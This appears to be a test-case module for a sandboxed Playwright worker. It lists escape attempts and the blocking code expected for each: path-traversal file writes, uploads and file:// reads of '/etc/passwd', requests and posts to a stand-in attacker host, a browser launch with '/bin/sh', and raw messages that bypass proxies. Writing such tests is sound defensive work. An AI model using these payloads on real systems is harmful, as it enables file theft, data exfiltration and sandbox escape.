"""What Playwright itself offers: host files, processes, callbacks, policies, raw objects."""

from attacks.attack import EGRESS, ERROR, NOTHING, TIMEOUT, Attack, script_rows


def _placed(*written: tuple[str, str, str, str]) -> list[Attack]:
    """What the proxies of the worker lack needs no page; the rest acts on one."""
    return [
        Attack(name, lint, held, code, on_page=(lint, held) != ("AW308", ERROR))
        for name, lint, held, code in written
    ]


_FILES = _placed(
    ("a picture outside", "AW401", "AW502", "page.screenshot(path='@MARKER@')"),
    ("a picture above", "AW401", "AW502", "page.screenshot(path='../x.png')"),
    ("a picture by a made path", "", "AW502", "page.screenshot(path='..' + '/x.png')"),
    ("a picture of an element", "AW401", "AW502",
     "page.locator('h1').screenshot(path='a/b.png')"),
    ("a picture on a device", "", "AW502", "page.screenshot(path='con.png')"),
    ("a hidden picture", "", "AW502", "page.screenshot(path='.bashrc')"),
    ("a picture with a wide slash", "", "AW502", "page.screenshot(path='..／x.png')"),
    ("a picture behind a zero byte", "", "AW502", "page.screenshot(path='x.png\\0.txt')"),
    ("a picture on a drive", "", "AW502", "page.screenshot(path='C:x.png')"),
    ("a picture with a long name", "", "AW502", "page.screenshot(path='x' * 5000 + '.png')"),
    ("a download outside", "", "AW502",
     "with page.expect_download() as d:\n    page.click('text=Download')\n"
     "d.value.save_as('..' + '/../x.csv')"),
    ("a download at a path", "AW401", "AW502",
     "with page.expect_download() as d:\n    page.click('text=Download')\n"
     "d.value.save_as('@MARKER@')"),
    ("where a download lies", "", NOTHING,
     "with page.expect_download() as d:\n    page.click('text=Download')\nprint(d.value.path())"),
    ("an upload of a path", "AW401", "AW502", "page.set_input_files('#file', ['@FILE@'])\n"
     "page.locator('#file').set_input_files('/etc/passwd')"),
    ("an upload of a made path", "", "AW502",
     "page.set_input_files('#file', '/etc' + '/passwd')"),
    ("an upload of what is not listed", "", "AW502", "page.set_input_files('#file', 'other.pdf')"),
    ("an upload by chooser", "", "AW502",
     "with page.expect_file_chooser() as i:\n    page.click('#file')\n"
     "i.value.set_files(['invoice.pdf', '..' + '/x'])"),
    ("an upload under a path", "", "AW502",
     "page.set_input_files('#file', {'name': '../x', 'mimeType': 'a/b', 'buffer': b''})"),
    ("an upload of text as bytes", "", "AW502",
     "page.set_input_files('#file', {'name': 'x', 'mimeType': 'a/b', 'buffer': '@FILE@'})"),
    ("an upload by drop", "AW308", ERROR,
     "page.locator('#file').drop(payload={'files': ['@FILE@']})"),
    ("storage state", "AW308", ERROR, "page.context.storage_state(path='@MARKER@')"),
    ("a PDF", "AW308", ERROR, "page.pdf(path='@MARKER@')"),
    ("a trace", "AW308", ERROR, "page.context.tracing.stop(path='@MARKER@')"),
    ("a recording", "AW308", ERROR, "page.route_from_har('@MARKER@', update=True)"),
    ("a film", "AW308", ERROR, "page.video.save_as('x')"),
    ("a script file", "AW308", ERROR, "page.add_script_tag(path='@FILE@')"),
    ("a style file", "AW308", ERROR, "page.add_style_tag(path='@FILE@')"),
    ("a script file for every page", "AW308", ERROR, "page.add_init_script(path='@FILE@')"),
)  # fmt: skip

_POLICY = _placed(
    ("a route", "AW308", ERROR, "page.route('**/*', lambda r: r.continue_())"),
    ("a route for sockets", "AW308", ERROR, "page.route_web_socket('**/*', print)"),
    ("no routes", "AW308", ERROR, "page.unroute_all()"),
    ("requests of the driver", "", "AW501", "page.request.get('http://@EVIL@/')"),
    ("requests of the context", "", "AW501", "page.context.request.get('http://@EVIL@/')"),
    ("a new context", "AW308", ERROR, "page.context.browser.new_context().new_page()"),
    ("a post of the context", "", "AW501",
     "page.context.request.post('http://@EVIL@/', data='x')"),
    ("a request past a redirect", "", EGRESS, "print(page.request.get('/hop').text())"),
    ("a post past a redirect", "", EGRESS,
     "page.request.fetch('/hop', method='POST', data={'a': 1})"),
    ("a request with a user name", "", "AW501", "page.request.get('http://@SHOP@@@EVIL@/')"),
    ("a request of a file", "", "AW501", "page.request.get('file://@FILE@')"),
    ("a request to another host", "", "AW504",
     "page.request.get('/shop', headers={'Host': '@EVIL@'})"),
    ("a request with cookies of its own", "", "AW504",
     "page.request.get('/shop', headers={' COOKIE': 'a=b'})"),
    ("a request without certificates", "", ERROR,
     "page.request.get('/shop', ignore_https_errors=True)"),
    ("a request that tunnels", "", ERROR, "page.request.fetch('/shop', method='CONNECT')"),
    ("a request with a file", "", ERROR, "page.request.post('/shop', multipart={'a': '@FILE@'})"),
    ("a request that is too large", "", "AW511",
     "page.request.post('/shop', data='x' * 1_000_000)"),
    ("the state of requests", "AW308", ERROR, "page.request.storage_state()"),
    ("a request by message", "AW304", "AW501",
     "where = {'root': page._root, 'chain': [['request']]}\n"
     "page._border.call(where, 'get', ['http://@EVIL@/'], {})"),
    ("a new page that goes elsewhere", "", "AW501",
     "page.context.new_page().goto('http://@EVIL@/')"),
    ("a new browser", "AW308", ERROR,
     "page.context.browser.browser_type.launch(executable_path='/bin/sh')"),
    ("another browser's server", "AW308", ERROR,
     "page.context.browser.browser_type.connect_over_cdp('http://@EVIL@')"),
    ("the browser's end", "AW308", ERROR, "page.context.browser.close()"),
    ("the context's end", "AW308", ERROR, "page.context.close()"),
    ("the page's end", "", "AW504", "page.close()"),
    ("a function for the page", "AW308", ERROR, "page.expose_function('f', print)"),
    ("a binding for the page", "AW308", ERROR, "page.expose_binding('f', print)"),
    ("a handler for pages", "", ERROR, "page.add_locator_handler(page, print)"),
    ("a handler that is a text", "", ERROR,
     "page.add_locator_handler(page.locator('body'), 'alert(1)')"),
    ("a handler with other options", "", ERROR,
     "page.add_locator_handler(page.locator('body'), print, force=True)"),
    ("a handler that goes elsewhere", "", "AW501",
     "def go(found):\n    page.goto('http://@EVIL@/')\n"
     "page.add_locator_handler(page.locator('a').first, go, times=1)\n"
     "page.locator('h1').first.click()"),
    ("a handler that is never done", "", TIMEOUT,
     "page.add_locator_handler(page.locator('a').first, lambda found: None, times=1)\n"
     "page.locator('h1').first.click(timeout=30_000)"),
    ("the debugger's protocol", "AW308", ERROR, "page.context.new_cdp_session(page)"),
    ("cookies", "AW308", ERROR, "print(page.context.cookies())"),
    ("new cookies", "AW308", ERROR, "page.context.add_cookies([])"),
    ("rights", "AW308", ERROR, "page.context.grant_permissions(['clipboard-read'])"),
    ("headers for every request", "AW308", ERROR, "page.set_extra_http_headers({'a': 'b'})"),
    ("the default of expect", "AW308", ERROR, "expect.set_options(timeout=1)"),
    ("the clock", "AW308", ERROR, "page.clock.install()"),
    ("pause", "AW308", ERROR, "page.pause()"),
    ("a handle", "AW308", ERROR, "page.evaluate_handle('window')"),
    ("a handle of an element", "AW308", ERROR, "page.locator('h1').element_handle()"),
    ("an event off the list", "", ERROR, "page.wait_for_event('websocket')"),
    ("a listener off the list", "", ERROR, "page.on('requestcrash', print)"),
    ("every header", "AW308", ERROR, "print(page.goto('/shop').all_headers())"),
    ("a page as an argument", "", ERROR, "page.locator('a', has=page).count()"),
    ("a function as an option", "", ERROR, "page.click('h1', position=print)"),
    ("a URL matched in the test process", "", ERROR,
     "page.wait_for_url('*a' * 30, timeout=200)"),
)  # fmt: skip


def _raw(name: str, method: str, args: str = "[]", kwargs: str = "{}", chain: str = "[]") -> Attack:
    """A message that the worker writes itself, past its own proxies."""
    target = f"{{'root': page._root, 'chain': {chain}}}"
    code = f"page._border.call({target}, {method!r}, {args}, {kwargs})"
    return Attack(f"{name}, by message", "AW304", "AW504", code, on_page=True)


_RAW = [
    _raw("a route", "route", "['**/*']"),
    _raw("requests of the driver", "request"),
    _raw("new text for the page", "set_content", "['<h1>forged</h1>']"),
    _raw("a PDF", "pdf", kwargs="{'path': '@MARKER@'}"),
    _raw("a script file", "add_script_tag", kwargs="{'path': '@FILE@'}"),
    _raw("a script for every page", "add_init_script", kwargs="{'path': '@FILE@'}"),
    _raw("a function for the page", "expose_function", "['f', {'$cb': 1}]"),
    _raw("the implementation", "_impl_obj"),
    _raw("the event loop", "_loop"),
    _raw("the class", "__class__"),
    _raw("the dict", "__dict__"),
    _raw("the end of a wait", "$exit"),
    _raw("the context's end", "close", chain="[['context']]"),
    _raw("the browser", "browser", chain="[['context']]"),
    _raw("cookies", "cookies", chain="[['context']]"),
    _raw("storage state", "storage_state", "[]", "{'path': '@MARKER@'}", "[['context']]"),
    _raw("an action in a chain", "title", chain="[['click', ['h1'], {}]]"),
    _raw("a handle", "element_handle", chain="[['locator', ['h1'], {}]]"),
    Attack("an expression over URLs, by message", "AW304", ERROR,
           "page._border.call({'root': page._root, 'chain': []}, 'wait_for_url', "
           "[{'$re': ['a.*b', 0]}], {'timeout': 200})", on_page=True),
    Attack("a path, by message", "AW304", "AW502",
           "page._border.call({'root': page._root, 'chain': []}, 'screenshot', [], "
           "{'path': '@MARKER@'})", on_page=True),
    Attack("a file address, by message", "AW304", "AW501",
           "page._border.call({'root': page._root, 'chain': []}, 'goto', ['file:///etc/passwd'], "
           "{})", on_page=True),
    Attack("options of expect, by message", "AW304", "AW504",
           "page._border.call({'root': page._root, 'chain': [], 'expect': True}, 'set_options', "
           "[], {})", on_page=True),
    Attack("an object of nobody, by message", "AW304", "AW504",
           "page._border.call({'root': 'h99', 'chain': []}, 'click', ['a'], {})", on_page=True),
]  # fmt: skip

_SCRIPTS = [
    *script_rows(
        "nothing",
        ("a file as the page's address", "() => { location = 'file:///etc/passwd' }"),
        ("a file in a window", "() => { window.open('file:///etc/passwd') }"),
        ("a file in a frame",
         "() => { document.body.append(Object.assign(document.createElement('iframe'),"
         " {src: 'file:///etc/passwd'})) }"),
        ("the settings of the browser", "() => { location = 'chrome://settings' }"),
        ("a binding of Playwright",
         "() => String(Object.keys(window).filter(k => /bind/.test(k)))"),
    ),
    *script_rows(
        ERROR,
        ("a file by fetch", "() => fetch('file:///etc/passwd').then(r => r.text())"),
        ("a file by request",
         "() => { const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false);"
         " x.send(); return x.responseText }"),
    ),
]  # fmt: skip

ATTACKS = [*_FILES, *_POLICY, *_RAW, *_SCRIPTS]
